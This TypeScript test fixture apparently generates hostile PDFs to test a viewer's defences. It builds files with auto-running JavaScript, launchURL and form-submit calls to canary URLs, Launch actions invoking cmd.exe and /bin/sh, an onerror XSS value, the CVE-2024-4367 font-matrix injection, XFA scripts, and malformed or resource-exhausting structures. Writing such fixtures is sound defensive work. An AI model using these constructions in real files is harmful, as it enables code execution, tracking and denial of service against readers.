/** PDFs that want to run, to call home, or to cost: of the public record, and made here. */
import { deflateSync } from "node:zlib";
import { pdfFile } from "../pdf-file.ts";
import { baitOf } from "./trick.ts";
import type { Bait } from "./trick.ts";

export interface HostilePdf {
  readonly name: string;
  readonly bait: Bait;
  readonly file: string;
  /** "page": it is shown all the same; "words": it is said that it can not be; "either": one of the two */
  readonly ends: "page" | "words" | "either";
  /** of those that cost: in the long tests alone */
  readonly isHeavy: boolean;
}

const text = ["Invoice", "Nothing to see here."];
const script = ({ run, url }: Bait): string =>
  `/S/JavaScript/JS(${`${run};app.alert("x");app.launchURL("${url("js")}");this.submitForm("${url("form")}")`.replace(/[\\()]/g, "\\$&")})`;
const stream = (number: number, entries: string, data: Buffer | string): string =>
  `${number.toString()} 0 obj <<${entries}/Length ${data.length.toString()}>> stream\n${data.toString("latin1")}\nendstream endobj`;
const link = (action: string): string =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<${action}>>/AA<</PO<<${action}>>/E<<${action}>>>>>>]`;

const tricks: readonly (readonly [name: string, ends: HostilePdf["ends"], make: (bait: Bait) => string])[] = [
  [
    "script when it is opened",
    "page",
    (bait) => pdfFile([{ lines: text }], { catalog: `/OpenAction<<${script(bait)}>>` }),
  ],
  [
    "script of every event, and a tree of it",
    "page",
    (bait) =>
      pdfFile([{ lines: text, more: `/AA<</O<<${script(bait)}>>/C<<${script(bait)}>>>>` }], {
        catalog: `/AA<</WC<<${script(bait)}>>/WP<<${script(bait)}>>>>/Names<</JavaScript<</Names[(a)<<${script(bait)}>>]>>>>`,
      }),
  ],
  [
    "fields that calculate",
    "page",
    (bait) =>
      pdfFile([{ lines: text, more: "/Annots[90 0 R]" }], {
        catalog: `/AcroForm<</Fields[90 0 R]/NeedAppearances true/CO[90 0 R]>>`,
        objects: [
          `90 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(<img src=x onerror=${bait.run}>)/Rect[50 50 300 90]/AA<</C<<${script(bait)}>>/F<<${script(bait)}>>/K<<${script(bait)}>>>>>> endobj`,
        ],
      }),
  ],
  [
    "an address all over the page, and one that is asked for when it opens",
    "page",
    ({ url }) =>
      pdfFile([{ lines: text, more: link(`/S/URI/URI(${url("uri")})`) }], {
        catalog: `/OpenAction<</S/URI/URI(${url("open")})>>/URI<</Base(${url("base")})>>`,
      }),
  ],
  [
    "a program that is launched",
    "page",
    () =>
      pdfFile([{ lines: text, more: link("/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/F(/bin/sh)") }], {
        catalog: "/OpenAction<</S/Launch/F(/bin/sh)/NewWindow true>>",
      }),
  ],
  [
    "files from elsewhere: a form, a document, a stream, a picture, a film",
    "page",
    ({ url }) =>
      pdfFile([{ lines: text, more: link(`/S/GoToR/F<</FS/URL/F(${url("goto")})>>/D[0/Fit]`), content: "/X1 Do" }], {
        catalog: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${url("submit")})>>/Flags 4>>`,
        objects: [
          `90 0 obj <</Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F(${url("image")})>>/FFilter/DCTDecode/Length 0>> stream\n\nendstream endobj`,
          `91 0 obj <</Type/Action/S/Rendition/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${url("film")})>>>>>>>> endobj`,
        ],
      }),
  ],
  [
    // CVE-2024-4367: a font's matrix that became code
    "a font whose matrix is script",
    "page",
    ({ run }) =>
      pdfFile([{ lines: text, more: "/Resources<</Font<</F1 90 0 R>>>>" }], {
        objects: [
          `90 0 obj <</Type/Font/Subtype/Type1/BaseFont/Evil/FirstChar 32/LastChar 33/Widths[500 500]/FontDescriptor 91 0 R/FontMatrix[1 2 3 4 5 (0\\); ${run.replace(/[\\()]/g, "\\$&")}//)]>> endobj`,
          `91 0 obj <</Type/FontDescriptor/FontName/Evil/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0/CapHeight 9/StemV 9>> endobj`,
        ],
      }),
  ],
  [
    "a function that is script",
    "page",
    ({ run }) =>
      pdfFile([{ lines: text, content: "/Sh1 sh", more: "/Resources<</Font<</F1 3 0 R>>/Shading<</Sh1 90 0 R>>>>" }], {
        objects: [
          "90 0 obj <</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Matrix[500 0 0 500 0 0]/Function 91 0 R>> endobj",
          stream(91, "/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]", `{ 0 ${run} ${"dup mul ".repeat(2_000)} }`),
        ],
      }),
  ],
  [
    "a form of XFA",
    "page",
    (bait) =>
      pdfFile([{ lines: text }], {
        catalog: "/AcroForm<</XFA 90 0 R/Fields[]>>",
        objects: [
          stream(
            90,
            "",
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${bait.run}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${bait.url("xfa")}"/></body></exData></value></draw></subform></template></xdp:xdp>`,
          ),
        ],
      }),
  ],
  ["a page of fourteen thousand kilometres", "page", () => pdfFile([{ width: 4e10, height: 4e10, lines: text }])],
  ["a page as narrow as a hair", "page", () => pdfFile([{ width: 1, height: 14_400_000, lines: text }])],
  ["a page of no size", "page", () => pdfFile([{ width: 0, height: -5, lines: text }])],
  [
    "a table that points nowhere",
    "page",
    () => pdfFile([{ lines: text }]).replace(/startxref\n\d+/, "startxref\n99999999"),
  ],
  [
    "a table that points at itself",
    "either",
    () =>
      pdfFile([{ lines: text }], { trailer: "/Prev 15/XRefStm 15" }).replace(/\d{10} 00000 n/g, "0000000015 00000 n"),
  ],
  ["the first half of one", "either", () => pdfFile([{ lines: text }, { lines: text }]).slice(0, 500)],
  ["ten thousand pages", "page", () => pdfFile(Array.from({ length: 10_000 }, () => ({ lines: ["x"] })))],
  [
    "a thousand million pages, it says",
    "either",
    () => pdfFile([{ lines: text }]).replace("/Count 1/", "/Count 1000000000/"),
  ],
  [
    "a tree of pages that is its own branch",
    "either",
    () => pdfFile([{ lines: text }]).replace("/Kids[4 0 R]", "/Kids[2 0 R 2 0 R 2 0 R 4 0 R]"),
  ],
  [
    "a drawing that draws itself",
    "page",
    () =>
      pdfFile([{ lines: text, content: "/X1 Do", more: "/Resources<</Font<</F1 3 0 R>>/XObject<</X1 90 0 R>>>>" }], {
        objects: [
          stream(
            90,
            "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X1 90 0 R>>>>",
            "/X1 Do /X1 Do /X1 Do",
          ),
        ],
      }),
  ],
  [
    "a picture of thirty thousand by thirty thousand",
    "page",
    () =>
      pdfFile(
        [
          {
            lines: text,
            content: "q 500 0 0 500 0 0 cm /X1 Do Q",
            more: "/Resources<</Font<</F1 3 0 R>>/XObject<</X1 90 0 R>>>>",
          },
        ],
        {
          objects: [
            stream(
              90,
              "/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
              deflateSync(Buffer.alloc(1_000_000)),
            ),
          ],
        },
      ),
  ],
  [
    "two hundred thousand strokes",
    "page",
    () => pdfFile([{ lines: text, content: "0 0 m 500 800 l S 9 9 30 30 re f ".repeat(100_000) }]),
  ],
];

const heavy: ReadonlySet<string> = new Set([
  "ten thousand pages",
  "a table that points at itself",
  "the first half of one",
  "a thousand million pages, it says",
  "a drawing that draws itself",
  "a page as narrow as a hair",
  "two hundred thousand strokes",
]);

export const hostilePdfs: readonly HostilePdf[] = tricks.map(([name, ends, make], at) => {
  const bait = baitOf(`p${(at + 1).toString().padStart(3, "0")}`);
  return { name, ends, bait, file: make(bait), isHeavy: heavy.has(name) };
});
